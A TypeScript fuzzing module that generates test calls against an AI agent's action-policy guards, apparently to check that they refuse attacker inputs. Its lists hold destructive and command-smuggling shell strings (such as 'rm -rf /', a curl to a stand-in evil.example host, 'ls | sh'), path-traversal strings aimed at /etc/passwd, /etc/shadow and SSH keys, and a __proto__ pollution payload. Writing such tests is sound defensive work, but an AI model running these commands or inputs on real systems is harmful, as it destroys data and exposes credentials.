/**
 * Generated calls against a user's actions: arguments from the actions' Schemas and from witnesses of the policy's own
 * patterns, and what attackers send (schema-invalid, shell operators and wrappers, traversal, oversized and deeply
 * nested values), from every origin, principal and tenant, with replayed idempotency keys and approval ids.
 */
import { Arbitrary, Either, Schema } from "effect"
import fc from "fast-check"
import type { ActionDefinition } from "../../core/action/Action.ts"
import type { AgentSubject } from "../../core/policy/InvocationContext.ts"
import * as PolicyComposition from "../../core/policy/PolicyComposition.ts"
import type { PolicySnapshot } from "../../core/policy/PolicySnapshot.ts"
import { fromFastCheck3 } from "./internal/fastCheck3.ts"
import { principals, record, tenants } from "./internal/pools.ts"
import type { InvocationRecipe } from "./Invocations.ts"
import { invocationRecipe } from "./Invocations.ts"

/** One generated call: the action and arguments, who sends it from which origin, and what follows it. */
export interface Call {
  readonly action: string
  readonly arguments: Record<string, unknown>
  readonly origin: InvocationRecipe
  readonly principal: string
  readonly tenant?: string
  readonly idempotency_key?: string
  /** When it escalates: the test approver approves, and the call is resubmitted with the approval id. */
  readonly approve?: boolean
  /** Then sent once more: the approval id again, or the idempotency key again from another principal. */
  readonly replay?: "approval_id" | "idempotency_key"
  /** Governed profile: the case's evidence store fails its commit n (0 the first after the boundary), once; not in sequences. */
  readonly evidence_fault?: number
}

/** What calls are generated from: the actions, the compiled policies whose patterns give witnesses, extra names. */
export interface CallSources {
  readonly actions: ReadonlyArray<ActionDefinition>
  readonly snapshots: ReadonlyArray<PolicySnapshot>
  /** The agent the executor acts as: a consistent host's calls name it. */
  readonly agent?: AgentSubject
}

/** Commands with a control operator, shell syntax, an assignment prefix or a wrapper: what a guard must refuse. */
export const shellAttacks: ReadonlyArray<string> = [
  "git status; rm -rf /",
  "ls && curl http://evil.example/x",
  "ls | sh",
  "echo $(id)",
  "echo `id`",
  "ls\nrm -rf /",
  "sh -c 'rm -rf /'",
  "bash -c ls",
  "env X=1 rm -rf /",
  "X=1 ls",
  "xargs rm",
  "nohup rm -rf /",
  "sudo -u root ls",
  "ls > /etc/passwd",
  "rm -rf ~"
]

/** Paths that climb, are relative, or look like links out of a root. */
export const pathAttacks: ReadonlyArray<string> = [
  "/work/../etc/passwd",
  "../../etc/shadow",
  "/work/./../../root/.ssh/id_rsa",
  "/tmp/link/../../etc/passwd",
  "/proc/self/root/etc/passwd",
  "//etc//passwd",
  "/work/src/%2e%2e/%2e%2e/etc/passwd",
  "notes/../../etc/passwd",
  "/work/link-to-etc/passwd"
]

const OVERSIZED = "x".repeat(1_100_000)
const nested = (depth: number): unknown => {
  let value: unknown = "deep"
  for (let i = 0; i < depth; i++) value = { a: value }
  return value
}
const DEEP = nested(140)
// An own `__proto__` key, as a JSON body can carry one.
const protoKey = (): Record<string, unknown> => JSON.parse("{\"__proto__\": {\"admin\": true}}")

const isRecord = (value: unknown): value is Record<string, unknown> =>
  typeof value === "object" && value !== null && !Array.isArray(value)

/** Schema-valid arguments of an action, in their encoded form; `{}` when its Schema has no arbitrary. */
const valid = (action: ActionDefinition): fc.Arbitrary<Record<string, unknown>> => {
  const encode = Schema.encodeUnknownEither(action.input)
  try {
    // effect bundles fast-check 3: its arbitraries run under fast-check 4 through a bridge of the random source.
    const schemaValues = fromFastCheck3<unknown>(Arbitrary.make(action.input))
    return schemaValues.map((value) => {
      const encoded = encode(value)
      return Either.isRight(encoded) && isRecord(encoded.right) ? encoded.right : {}
    })
  } catch {
    return fc.constant({})
  }
}

const wrongValues: ReadonlyArray<unknown> = [null, 0, -1, 1.5, "", "x", true, [], {}, [1, "a"]]

/** Arguments that break the Schema: a field of the wrong type, a missing field, an extra one, an own `__proto__`. */
const invalid = (base: fc.Arbitrary<Record<string, unknown>>) =>
  base.chain((value) => {
    const keys = Object.keys(value)
    const options: Array<fc.Arbitrary<Record<string, unknown>>> = [
      fc.constant({ ...value, "writ.extra": 1 }),
      fc.constant(protoKey())
    ]
    if (keys.length > 0) {
      options.push(
        fc.tuple(fc.constantFrom(...keys), fc.constantFrom(...wrongValues)).map(([k, v]) => ({
          ...value,
          [k]: v
        }))
      )
      options.push(
        fc.constantFrom(...keys).map((k) => Object.fromEntries(Object.entries(value).filter(([x]) => x !== k)))
      )
    }
    return fc.oneof(...options)
  })

/** An attack string placed in each string field of valid arguments, or in a `command`/`path` of its own. */
const attacks = (base: fc.Arbitrary<Record<string, unknown>>, witnessCommands: ReadonlyArray<string>) => {
  const strings = fc.oneof(
    fc.constantFrom(...shellAttacks),
    fc.constantFrom(...pathAttacks),
    witnessCommands.length === 0
      ? fc.constantFrom(...shellAttacks)
      : fc.tuple(fc.constantFrom(...witnessCommands), fc.constantFrom("; rm -rf /", " && id", " | sh", " $(id)"))
        .map(([c, tail]) => `${c}${tail}`)
  )
  return fc.oneof(
    fc.tuple(base, strings).chain(([value, attack]) => {
      const keys = Object.keys(value).filter((k) => typeof value[k] === "string")
      return keys.length === 0
        ? fc.constant({ ...value, command: attack })
        : fc.constantFrom(...keys).map((k) => ({ ...value, [k]: attack }))
    }),
    strings.map((command) => ({ command })),
    fc.constantFrom(...pathAttacks).map((path) => ({ path })),
    base.map((value) => ({ ...value, blob: OVERSIZED })),
    base.map((value) => ({ ...value, deep: DEEP }))
  )
}

/** The argument objects and action names the policies' patterns name, instantiated (PolicyComposition.witnesses). */
export const witnessesOf = (snapshots: ReadonlyArray<PolicySnapshot>) => {
  const args = new Map<string, Record<string, unknown>>()
  const actions = new Set<string>()
  for (const input of PolicyComposition.witnesses(snapshots.flatMap((s) => s.compiled_rules))) {
    if (input.action !== "writ.sample") actions.add(input.action)
    args.set(JSON.stringify(input.arguments), input.arguments)
  }
  return { arguments: [...args.values()], actions: [...actions] }
}

/** Instances of scope patterns (`team-*` gives `team-` and `team-x`), so in-scope principals and tenants are drawn. */
const instances = (patterns: ReadonlyArray<string>) =>
  patterns.flatMap((p) => (p.includes("*") ? [p.replaceAll("*", "x")] : [p])).filter((p) => p.length > 0)

/** A witness's values put on the fields of valid arguments that it names, keeping the Schema's shape. */
const onto = (value: Record<string, unknown>, witness: Record<string, unknown>) => {
  const fields = Object.entries(witness).filter(([k]) => typeof value[k] === "string")
  return fields.length === 0 ? value : { ...value, ...Object.fromEntries(fields) }
}

/** The recipe as a consistent host builds it: the call's principal as executor id, the executor's agent as the agent. */
const hostedBy = (recipe: InvocationRecipe, principal: string, agent: AgentSubject | undefined): InvocationRecipe => {
  const own = recipe._tag === "unknown" || agent === undefined ? {} : { agent }
  return recipe._tag === "delegated"
    ? { ...recipe, ...own, executorId: principal, from: hostedBy(recipe.from, principal, undefined) }
    : { ...recipe, ...own, executorId: principal }
}

/** Arguments for one action: valid, valid with a witness merged in, a witness alone, invalid, or an attack. */
const argumentsFor = (action: ActionDefinition, witnessArgs: ReadonlyArray<Record<string, unknown>>) => {
  const base = valid(action)
  const commands = witnessArgs.flatMap((a) => (typeof a.command === "string" ? [a.command] : []))
  const witness = witnessArgs.length === 0 ? fc.constant({}) : fc.constantFrom(...witnessArgs)
  return fc.oneof(
    { arbitrary: base, weight: 3 },
    { arbitrary: fc.tuple(base, fc.constantFrom(...witnessArgs, {})).map(([v, w]) => onto(v, w)), weight: 3 },
    { arbitrary: witness, weight: 1 },
    { arbitrary: invalid(base), weight: 1 },
    { arbitrary: attacks(base, commands), weight: 2 }
  )
}

/** Calls against the actions, with witnesses from the snapshots' patterns and from their principal and tenant scopes. */
export const calls = (sources: CallSources): fc.Arbitrary<Call> => {
  const witnesses = witnessesOf(sources.snapshots)
  const names = sources.actions.map((a) => a.name)
  const who = [...new Set([...instances(sources.snapshots.flatMap((s) => s.principal_scope)), ...principals])]
  const where = [...new Set([...instances(sources.snapshots.flatMap((s) => s.tenant_scope)), ...tenants])]
  const perAction = sources.actions.map((action) =>
    argumentsFor(action, witnesses.arguments).map((args) => [action.name, args] as const)
  )
  return fc.record({
    target: fc.oneof(...perAction),
    origin: invocationRecipe({ actions: names.length === 0 ? ["writ.none"] : names, depth: 2 }),
    principal: fc.constantFrom(...who),
    tenant: fc.option(fc.constantFrom(...where, "other-tenant"), { nil: undefined }),
    idempotency_key: fc.option(fc.constantFrom("key-1", "key-2"), { nil: undefined, freq: 3 }),
    consistent: fc.boolean(),
    approve: fc.boolean(),
    replay: fc.option(fc.constantFrom("approval_id" as const, "idempotency_key" as const), { nil: undefined, freq: 3 }),
    // One call in four meets a store that fails: at the first commit after the boundary, or a later one.
    evidence_fault: fc.oneof(
      { withCrossShrink: true },
      { arbitrary: fc.constant(undefined), weight: 3 },
      { arbitrary: fc.nat(5), weight: 1 }
    )
  }, record).map(({ target: [action, args], ...rest }): Call => ({
    action,
    arguments: args,
    origin: rest.consistent ? hostedBy(rest.origin, rest.principal, sources.agent) : rest.origin,
    principal: rest.principal,
    ...(rest.tenant === undefined ? {} : { tenant: rest.tenant }),
    ...(rest.idempotency_key === undefined ? {} : { idempotency_key: rest.idempotency_key }),
    ...(rest.approve ? { approve: true } : {}),
    ...(rest.replay === undefined ? {} : { replay: rest.replay }),
    ...(rest.evidence_fault === undefined ? {} : { evidence_fault: rest.evidence_fault })
  }))
}
